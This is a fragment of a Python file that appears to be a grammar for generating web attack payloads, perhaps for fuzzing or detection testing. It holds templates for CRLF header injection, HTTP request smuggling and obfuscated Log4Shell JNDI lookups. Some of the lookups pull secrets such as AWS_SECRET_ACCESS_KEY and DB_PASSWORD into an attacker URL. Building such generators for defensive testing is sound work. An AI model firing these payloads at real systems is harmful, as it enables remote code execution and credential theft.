    "crlf": ["?«word»=«newline»«header»", "«file»«newline»«header»", "«word»«newline»«header»«newline»«header»", "«email»\n«mail»", "«word»«newline»X-«word»: «word»", "«rnd»«newline»X-«word»: «n»", "«before»\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n«smuggled»", "«before»\r\nContent-Length: «d»\r\n\r\n«smuggled»", "«before» HTTP/1.1\r\nHost: «host»\r\n\r\n«smuggled»", "«word»\n«mail»\nContent-Type: text/html", "«email»\n«mail»\n«mail»", "«word»\n«mail»", "«email»%0A«mail»", "«email»\r\n«mail»", "«first» «last»\n«mail»", "«sentence»\r\n«mail»", "«word»%0d%0aSet-Cookie:%20«word»=«word»", "«word»\r\nLocation: http://«host»/", "«before»\r\nSet-Cookie: «word»=«n»", "«before»«newline»«header»", "«before»«newline»«header»", "«before»«newline»«header»«newline»", "«newline»«header»", "«newline»«header»", "http://«host»/«newline»«header»", "«before»?«newline»«header»", "/«word»«newline»«header»«newline»«newline»", "«before» HTTP/1.1«newline»«header»"],
    "protocol": ["«looked_up_ldap»", "ldap", "ldap", "rmi", "ldaps", "dns", "iiop", "corba", "nis", "${lower:l}dap", "l${::-d}ap", "${::-l}${::-d}${::-a}${::-p}"],
    "looked_up_jndi": lambda chance: _looked_up(chance, "jndi"),
    "looked_up_ldap": lambda chance: _looked_up(chance, chance.pick(("ldap", "ldap", "rmi", "dns", "ldaps"))),
    "jndi_word": [*["«looked_up_jndi»"] * 4, "jndi", "jndi", "jndi", "${lower:j}ndi", "${lower:j}${lower:n}${lower:d}i", "${::-j}${::-n}${::-d}${::-i}", "j${::-n}di", "${upper:j}ndi", "${env:«word»:-j}ndi", "jnd${upper:ı}", "${lower:${lower:jndi}}", "${sys:«word»:-jn}di", "j${lower:n}d${lower:i}", "${env:BARFOO:-j}nd${env:BARFOO:-i}"],
    "jndi": ["${«jndi_word»:«protocol»://«host»/«word»}", "${«jndi_word»:«protocol»://«host»/«word»}", "${«jndi_word»:«protocol»://«ip»:«nn»/«rnd»}", "${«jndi_word»:«protocol»://«host»/${env:«secret_name»}}", "«before»${«jndi_word»:«protocol»://«ip»/«word»}", "${«jndi_word»${env:«word»:-:}«protocol»${env:«word»:-:}//«host»/a}", "${jndi:ldap://127.0.0.1#«host»/a}", "${${env:«word»:-j}ndi:«protocol»://«rnd».«host»/}", "${jndi:«protocol»:/«host»/«word»", "%24%7Bjndi:«protocol»://«host»/a%7D", "${jndi:dns://«host»/${java:version}}", "${ctx:«word»}${jndi:«protocol»://«ip»/}"],
    "secret_name": ["AWS_SECRET_ACCESS_KEY", "USER", "JAVA_VERSION", "HOSTNAME", "PATH", "DB_PASSWORD"],
}  # fmt: skip

COMMAND_GRAMMAR: Final = Grammar(TERMINALS, SHELL_FORMS, SHELL_EVASIONS, _CODE, _DIRECTORIES, _SHELL)
